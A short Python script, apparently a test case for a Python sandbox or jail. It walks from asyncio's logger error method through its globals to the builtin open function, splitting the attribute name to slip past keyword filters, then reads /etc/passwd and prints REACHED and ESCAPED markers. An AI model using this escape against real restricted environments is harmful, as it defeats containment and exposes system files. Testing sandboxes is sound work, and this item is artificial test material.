# tries: the library's log leads to its handlers and their files
# class: async
# stops: 1 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(function):
    space = getattr(function, "__glo" + "bals__")["__builtins__"]
    return (space if isinstance(space, dict) else vars(space))["open"]


use(pick(asyncio.log.logger.error.__func__))
